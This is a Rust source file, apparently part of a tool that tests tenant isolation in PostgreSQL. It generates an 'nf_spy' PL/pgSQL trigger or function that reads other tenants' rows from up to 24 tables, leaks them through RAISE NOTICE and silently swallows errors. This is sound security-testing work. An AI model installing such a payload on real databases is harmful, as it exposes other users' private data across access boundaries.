//! A function of the attacker's that tells what whoever runs it can read of the victim.

use crate::attack::{Hunt, links::owned_by};

/// Tables that it reads.
const TABLES: usize = 24;

/// What the function returns.
#[derive(Clone, Copy)]
pub(super) enum Returns {
    /// A trigger's row.
    Trigger,
    /// Yes.
    Truth,
}

/// Writes the function.
pub(super) fn spy(hunt: &Hunt, schema: &str, returns: Returns) -> String {
    let (tenants, persons) = (hunt.stage.foreign_ids(), hunt.stage.foreign_persons());
    let catalog = &hunt.stage.catalog;
    let tables =
        catalog.relations.iter().filter(|table| table.is_table() && !table.extension && !table.partition);
    let mut body = String::new();
    for table in tables.take(TABLES) {
        let condition = owned_by(catalog, &hunt.stage.links, table.oid, "t", &tenants, &persons);
        let condition = condition.unwrap_or_else(|| "true".to_owned());
        let name = table.quoted();
        body += "begin for r in select t.* from ";
        body += &name;
        body += " t where ";
        body += &condition;
        body += " limit 5 loop raise notice '%', r; end loop; exception when others then null; end; ";
    }
    let (kind, end) = match returns {
        Returns::Trigger => ("trigger", "new"),
        Returns::Truth => ("boolean", "true"),
    };
    format!(
        "create function {schema}.nf_spy() returns {kind} language plpgsql as $nf$ declare r record; begin {body}return {end}; end $nf$"
    )
}
